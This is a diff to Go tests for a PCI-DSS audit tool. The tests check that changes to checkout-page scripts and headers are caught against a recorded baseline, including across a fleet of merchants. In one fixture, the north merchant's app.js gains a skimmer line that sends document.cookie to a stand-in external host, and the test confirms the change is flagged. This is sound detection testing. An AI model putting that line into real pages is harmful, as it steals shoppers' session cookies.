@@ -1,6 +1,7 @@
 package main
 
 import (
+	"context"
 	"encoding/json"
 	"fmt"
 	"net/http"
@@ -16,7 +17,10 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/audit-tool/audit/baseline"
+	"github.com/audit-tool/audit/fleet"
+	"github.com/audit-tool/audit/outcome"
 	"github.com/audit-tool/audit/reports"
+	"github.com/audit-tool/audit/store"
 )
 
 // shopPage is a checkout served from 127.0.0.1 whose scripts and headers a
@@ -30,14 +34,23 @@ type shopPage struct {
 }
 
 func newShopPage() *shopPage {
-	p := &shopPage{scripts: map[string]string{}, headers: map[string]string{
+	p := &shopPage{}
+	p.reset()
+	return p
+}
+
+// reset puts the page back as first deployed.
+func (p *shopPage) reset() {
+	p.mu.Lock()
+	p.scripts, p.order = map[string]string{}, nil
+	p.headers = map[string]string{
 		// A fresh nonce per response, as strict CSPs have it: not a change.
 		"Content-Security-Policy": "script-src 'self' 'nonce-{nonce}'; frame-ancestors 'none'",
 		"X-Frame-Options":         "DENY",
 		"Referrer-Policy":         "strict-origin",
-	}}
+	}
+	p.mu.Unlock()
 	p.addScript("/assets/app.js", "document.getElementById('pay').dataset.ready = '1';")
-	return p
 }
 
 func (p *shopPage) addScript(path, body string) {
@@ -130,29 +143,33 @@ func TestBaselineChangeDetection(t *testing.T) {
 		{"new hash of a fixed entry", func(p *shopPage) { p.addScript("/assets/app.js", "void 2;") }, justified,
 			reports.Fail, "script_changed {url}/assets/app.js: sha256-"},
 	}
+	// One server, one recorded baseline: each case starts from a copy of
+	// it and changes the page.
+	page := newShopPage()
+	srv := httptest.NewServer(page)
+	defer srv.Close()
+	url := srv.URL + "/checkout"
+	recorded := filepath.Join(t.TempDir(), "baseline.json")
+	first := changeRun(t, url, recorded, justified)
+	require.Equal(t, reports.Pass, first.Status, first.Message)
+	assert.Contains(t, first.Message, "Baseline recorded in "+recorded)
+	b, err := baseline.Load(recorded)
+	require.NoError(t, err)
+	rec, ok := b.Pages[url]
+	require.True(t, ok, "recorded under the page's source: %v", b.Pages)
+	assert.Equal(t, "browser", rec.Engine)
+	require.Len(t, rec.Scripts, 2)
+	assert.Equal(t, srv.URL+"/assets/app.js", rec.Scripts[1].Key)
+	assert.Equal(t, "script-src 'self' 'nonce-*'; frame-ancestors 'none'", rec.Headers["content-security-policy"])
+	assert.Equal(t, "DENY", rec.Headers["x-frame-options"])
+	raw, err := os.ReadFile(recorded)
+	require.NoError(t, err)
+
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			page := newShopPage()
-			srv := httptest.NewServer(page)
-			defer srv.Close()
-			url := srv.URL + "/checkout"
+			page.reset()
 			file := filepath.Join(t.TempDir(), "baseline.json")
-
-			first := changeRun(t, url, file, tt.allow)
-			require.Equal(t, reports.Pass, first.Status, first.Message)
-			assert.Contains(t, first.Message, "Baseline recorded in "+file)
-			b, err := baseline.Load(file)
-			require.NoError(t, err)
-			rec, ok := b.Pages[url]
-			require.True(t, ok, "recorded under the page's source: %v", b.Pages)
-			assert.Equal(t, "browser", rec.Engine)
-			require.Len(t, rec.Scripts, 2)
-			assert.Equal(t, srv.URL+"/assets/app.js", rec.Scripts[1].Key)
-			assert.Equal(t, "script-src 'self' 'nonce-*'; frame-ancestors 'none'", rec.Headers["content-security-policy"])
-			assert.Equal(t, "DENY", rec.Headers["x-frame-options"])
-			raw, err := os.ReadFile(file)
-			require.NoError(t, err)
-
+			require.NoError(t, os.WriteFile(file, raw, 0o644))
 			tt.change(page)
 			st := changeRun(t, url, file, tt.allow)
 			assert.Equal(t, tt.want, st.Status, st.Message)
@@ -165,8 +182,7 @@ func TestBaselineChangeDetection(t *testing.T) {
 				want := strings.ReplaceAll(tt.detail, "{url}", srv.URL)
 				found := false
 				for _, d := range details {
-					found = found || strings.HasPrefix(d, want) || strings.HasPrefix(d, "UNAUTHORISED "+want) ||
-						strings.Contains(d, " "+want)
+					found = found || strings.HasPrefix(d, want) || strings.Contains(d, " "+want)
 				}
 				assert.True(t, found, "want evidence %q in %q", want, details)
 			}
@@ -201,4 +217,96 @@ func TestBaselineUnreadable(t *testing.T) {
 	assert.Equal(t, `{"version": 1, "pages": {`, string(raw))
 	var v any
 	assert.Error(t, json.Unmarshal(raw, &v))
+}
+
+// TestFleetBaselineInStore: `audit fleet run --baseline` keeps each
+// merchant's page in the store. The first fleet run records both pages; a
+// week later the one whose bundle changed fails 11.6.1 with the diff, the
+// other passes; the store row is the record compared with, not rewritten.
+func TestFleetBaselineInStore(t *testing.T) {
+	t.Setenv(envStore, "")
+	t.Setenv(envFleetRun, "")
+	t.Setenv(fleet.EnvIndex, "")
+	dir := t.TempDir()
+	// Card fields posting to the merchant (SAQ D, where 11.6.1 applies),
+	// the same built page for both: the store keeps them apart.
+	page := `<!doctype html><html><head><title>Pay</title></head><body>
+<form action="/orders/pay" method="post"><input name="cardnumber" autocomplete="cc-number">
+<input name="cvc" autocomplete="cc-csc"><button>Pay</button></form>
+<script src="/assets/app.js"></script></body></html>`
+	for _, m := range []string{"north", "south"} {
+		writeFiles(t, filepath.Join(dir, m), map[string]string{
+			"dist/checkout.html": page, "dist/assets/app.js": "window.shop = 1;\n", "src/app.js": "export {};\n",
+		})
+	}
+	path := filepath.Join(dir, "fleet.hcl")
+	require.NoError(t, os.WriteFile(path, []byte(`
+merchant "north" {
+  path = "north"
+  vars = { checkout_page = "dist/checkout.html", source_dirs = ["src"] }
+}
+merchant "south" {
+  path = "south"
+  vars = { checkout_page = "dist/checkout.html", source_dirs = ["src"] }
+}
+`), 0o644))
+	db := "sqlite://" + filepath.Join(dir, defaultStoreFile)
+	step := func(t *testing.T, out, merchant string) reports.Step {
+		t.Helper()
+		raw, err := os.ReadFile(filepath.Join(out, merchant, "audit.json"))
+		require.NoError(t, err)
+		var res reports.Result
+		require.NoError(t, json.Unmarshal(raw, &res))
+		for _, s := range res.Steps {
+			if s.ID == "pci-dss.page_change_detection" {
+				return s
+			}
+		}
+		t.Fatalf("%s: no 11.6.1 step in %s", merchant, raw)
+		return reports.Step{}
+	}
+	fleetRun := func(t *testing.T, run, now string) string {
+		t.Helper()
+		out := filepath.Join(dir, "out-"+run)
+		_, _, stderr := audit(t, "fleet", "run", path, "--offline", "--checklist", "pci-dss", "--engine", "browser", "--baseline",
+			"--fleet-run", run, "--now", now, "--only", "pci-dss.page_change_detection", "--format", "json", "--out", out)
+		require.NotContains(t, stderr, "merchant north:", stderr)
+		require.NotContains(t, stderr, "merchant south:", stderr)
+		return out
+	}
+
+	out := fleetRun(t, "w47", "2026-11-23T10:00:00Z")
+	for _, m := range []string{"north", "south"} {
+		st := step(t, out, m)
+		assert.Equal(t, reports.Pass, st.Status, st.Message)
+		assert.Contains(t, st.Message, "Baseline recorded in "+db+" (merchant "+m+")")
+	}
+	s, err := store.Open(context.Background(), db)
+	require.NoError(t, err)
+	blob, at, err := s.Baseline(context.Background(), "north", "dist/checkout.html")
+	require.NoError(t, err)
+	assert.Equal(t, fleetNow, at.UTC())
+	rec, err := baseline.Parse(blob, "north")
+	require.NoError(t, err)
+	require.Len(t, rec.Pages["dist/checkout.html"].Scripts, 1)
+	assert.Equal(t, "/assets/app.js", rec.Pages["dist/checkout.html"].Scripts[0].Key)
+	s.Close()
+
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "north", "dist", "assets", "app.js"),
+		[]byte("window.shop = 1; new Image().src = 'https://c.example/?' + document.cookie;\n"), 0o644))
+	out = fleetRun(t, "w48", "2026-11-30T10:00:00Z")
+	north := step(t, out, "north")
+	assert.Equal(t, reports.Fail, north.Status, north.Message)
+	assert.Contains(t, north.Message, "since the baseline of 2026-11-23T10:00:00Z")
+	require.NotEmpty(t, north.Evidence)
+	assert.Contains(t, north.Evidence[0].Detail, "script_changed /assets/app.js: sha256-")
+	assert.Equal(t, db+" (merchant north)", north.Evidence[0].Source)
+	south := step(t, out, "south")
+	assert.Equal(t, reports.Pass, south.Status, south.Message)
+	assert.Contains(t, south.Message, "No unauthorised change since the baseline of 2026-11-23T10:00:00Z")
+
+	// A fleet's merchants cannot share one file.
+	code, _, stderr := audit(t, "fleet", "run", path, "--offline", "--checklist", "pci-dss", "--baseline=page.json")
+	assert.Equal(t, outcome.ExitUsage, code)
+	assert.Contains(t, stderr, "give --baseline alone")
 }
